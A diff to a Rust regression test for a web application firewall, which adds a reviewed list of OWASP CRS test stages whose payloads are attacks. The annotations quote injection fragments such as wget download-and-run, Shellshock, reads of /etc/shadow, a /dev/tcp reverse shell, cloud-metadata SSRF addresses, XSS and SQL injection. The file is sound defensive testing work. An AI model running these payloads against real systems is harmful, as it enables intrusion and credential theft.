@@ -134,13 +134,164 @@ fn flagged_in(r: &Report, dir: &str) -> bool {
 /// detection paranoia 4, and of pure-negative stages left alone (nothing in the category
 /// counted) at paranoia 1. Raise these as the engine improves; never lower them.
 const RATCHET: &[(&str, f64, f64)] = &[
-    ("930", 0.96, 0.81),
+    ("930", 0.96, 0.93),
     ("931", 1.00, 1.00),
     ("932", 0.85, 0.92),
-    ("933", 0.76, 0.94),
+    ("933", 0.76, 0.96),
     ("934", 0.68, 0.84),
     ("941", 0.98, 0.87),
     ("942", 0.95, 0.93),
+];
+
+/// Negative stages (no `expect_ids`) that are not benign requests: CRS asserts only that one
+/// rule stays silent on them, and their payload is an attack another rule exists to catch
+/// (or CRS's own PL1 libinjection rules, 941100/942100, the same library as ours, flag it).
+/// They are reported apart and left out of the benign share; each was read, with its reason.
+const ATTACK_NEGATIVES: &[(&str, &str)] = &[
+    (
+        "930110-7-0",
+        "`/get/..`: a traversal to the parent (httpd strips it; we see it)",
+    ),
+    (
+        "932207-3-0",
+        "Referer `;/bin/ca?+/et*/passwd`: globbed command injection",
+    ),
+    ("932207-4-0", "Referer `;ls -al`: command injection"),
+    (
+        "932230-1-0",
+        "`system('echo cd /tmp;wget ...')`: download and run",
+    ),
+    ("932230-2-0", "`;lwp-download http://...`: download"),
+    ("932230-9-0", "`system('dig ...')` beside HTML entities"),
+    (
+        "932230-10-0",
+        "`system('echo cd /tmp;wget ...;curl ...')` with entities",
+    ),
+    ("932230-11-0", "the same, entities first"),
+    ("932230-12-0", "the same, entities last"),
+    (
+        "932230-14-0",
+        "SSI `<!--#exec cmd=\"/bin/cat /etc/shadow\"-->`",
+    ),
+    (
+        "932230-16-0",
+        "Shellshock `() { :;}; /bin/bash -c \"curl ...\"`",
+    ),
+    (
+        "932230-18-0",
+        "SSI exec of /etc/shadow, concatenated with entities",
+    ),
+    ("932230-19-0", "the same, entities first"),
+    ("932230-23-0", "Shellshock with entities"),
+    (
+        "932230-26-0",
+        "`` ` /bin/cat /etc/passwd` ``: command substitution",
+    ),
+    ("932230-42-0", "`;vi -c:\\!pwd`: editor shell escape"),
+    ("932230-43-0", "`;vim -c:\\!pwd`: editor shell escape"),
+    (
+        "932230-46-0",
+        "`;cat /path/file.gz`: command after a separator",
+    ),
+    (
+        "932236-9-0",
+        "`;vi -c:\\!pwd` (a PL2 rule's silence at PL1)",
+    ),
+    (
+        "932250-1-0",
+        "`tar -xzf /var/www/exfiltrate.tar.gz /etc`: exfiltration",
+    ),
+    ("932250-2-0", "the same after a separator"),
+    ("932260-1-0", "`bash -c \"echo test\"`"),
+    (
+        "932260-2-0",
+        "cookie `exec 5<>/dev/tcp/8.8.8.8/80`: a reverse shell",
+    ),
+    ("932260-3-0", "`;tar -xzf ... /etc` after a separator"),
+    (
+        "933100-81-0",
+        "`<?xphp system('id'); ?>`: a PHP function call",
+    ),
+    (
+        "933131-1-0",
+        "`$_SERVER['test']`: a PHP superglobal (CRS 933130 catches it)",
+    ),
+    (
+        "933131-2-0",
+        "`$_COOKIE` as a parameter name: a PHP superglobal",
+    ),
+    (
+        "933161-5-0",
+        "`gethostbynamE(`: a PHP function call in the body",
+    ),
+    (
+        "934110-6-0",
+        "`169.254.169.254/latest/user-data`: cloud metadata (SSRF)",
+    ),
+    (
+        "934110-7-0",
+        "`http://169.254.169.254/latest`: cloud metadata (SSRF)",
+    ),
+    (
+        "934110-8-0",
+        "`http://metadata.google.internal`: cloud metadata (SSRF)",
+    ),
+    (
+        "934120-16-0",
+        "`[::ffff:a9fe:a9fe`: the metadata address as IPv6",
+    ),
+    (
+        "934120-17-0",
+        "`[::ffff:a9fe:a9fe]`: the metadata address as IPv6",
+    ),
+    (
+        "934120-19-0",
+        "`[0:0:0:0:0:ffff:169.254.169.254]`: the metadata address",
+    ),
+    (
+        "941100-5-0",
+        "Referer with `<script ...>setTimeout(...)`: XSS",
+    ),
+    (
+        "941140-11-0",
+        "`style=color:red;...`: libinjection (CRS 941100) flags it",
+    ),
+    (
+        "941140-12-0",
+        "`style=background:url(http://...)`: libinjection flags it",
+    ),
+    ("941140-13-0", "`style=a:b;a:b;...`: libinjection flags it"),
+    ("941140-14-0", "`url(javascript:alert(1))`: XSS"),
+    ("941310-8-0", "US-ASCII `¼script¾alert(¢XSS¢)¼/script`: XSS"),
+    ("941310-9-0", "the same with the closing tag"),
+    (
+        "942151-13-0",
+        "prose `Left (WA, RR), ...`: libinjection (CRS 942100) flags it",
+    ),
+    (
+        "942151-14-0",
+        "prose `One quarter (24%) of ...`: libinjection flags it",
+    ),
+    ("942210-26-0", "`;set @`: chained SQL"),
+    (
+        "942350-9-0",
+        "`/*';INSERT INTO category(id) VALUES (3)-- -*/`",
+    ),
+    (
+        "942360-30-0",
+        "`'||(select(pg_sleep(15))where(true))||'`: time-based SQLi",
+    ),
+    (
+        "942360-31-0",
+        "`UNION ALL SELECT NULL,NULL,CONCAT(...)-- sqCV`: sqlmap's probe",
+    ),
+    ("942521-15-0", "`\\'lol' or '1`: a tautology"),
+    (
+        "942521-16-0",
+        "an article quoting `' OR '1'='1' --`: libinjection flags it",
+    ),
+    ("942522-5-0", "`'or'1`: a tautology"),
+    ("942522-8-0", "the same article"),
 ];
 
 #[test]
@@ -159,6 +310,7 @@ fn owasp_crs_regression_suite_by_category() {
     let mut missed: BTreeMap<&str, Vec<&str>> = BTreeMap::new();
     let mut noisy: BTreeMap<&str, Vec<&str>> = BTreeMap::new();
     let show = std::env::var("PORTCULLIS_WAF_SHOW").unwrap_or_default();
+    let mut attack_negatives: Vec<(String, &str, bool)> = Vec::new();
     for s in &stages {
         if show.split(',').any(|id| id == s.id) {
             let r = inspect(&engine, s, &pl4);
@@ -178,6 +330,10 @@ fn owasp_crs_regression_suite_by_category() {
                 missed.entry(s.dir.as_str()).or_default().push(&s.id);
             }
         } else if !s.no_expect.is_empty() {
+            if let Some((_, why)) = ATTACK_NEGATIVES.iter().find(|(id, _)| *id == s.id) {
+                let r = inspect(&engine, s, &pl1);
+                attack_negatives.push((s.id.clone(), *why, r.exceeded));
+            }
             row.2 += 1;
             let r = inspect(&engine, s, &pl1);
             if !r
@@ -219,6 +375,28 @@ fn owasp_crs_regression_suite_by_category() {
                 100.0 * min_alone
             ));
         }
+    }
+    // The benign share: negative stages without the reviewed attack payloads.
+    let (negatives, alone) = table.values().fold((0, 0), |(n, a), r| (n + r.2, a + r.3));
+    let attacks = attack_negatives.len();
+    let benign_alone = share(alone, negatives - attacks);
+    println!(
+        "all categories: {alone} of {negatives} negative stages left alone at PL1 ({:.1}%); \
+         {attacks} of them carry attack payloads (ATTACK_NEGATIVES); of the other {}, {:.1}% left alone",
+        100.0 * share(alone, negatives),
+        negatives - attacks,
+        100.0 * benign_alone
+    );
+    assert_eq!(
+        attacks,
+        ATTACK_NEGATIVES.len(),
+        "a reviewed stage id is not a negative stage of the suite any more"
+    );
+    if benign_alone < 0.95 {
+        failures.push(format!(
+            "benign negative stages: {:.1}% left alone at PL1, the target is 95%",
+            100.0 * benign_alone
+        ));
     }
     if std::env::var_os("PORTCULLIS_WAF_MISSED").is_some() {
         for (dir, ids) in &missed {
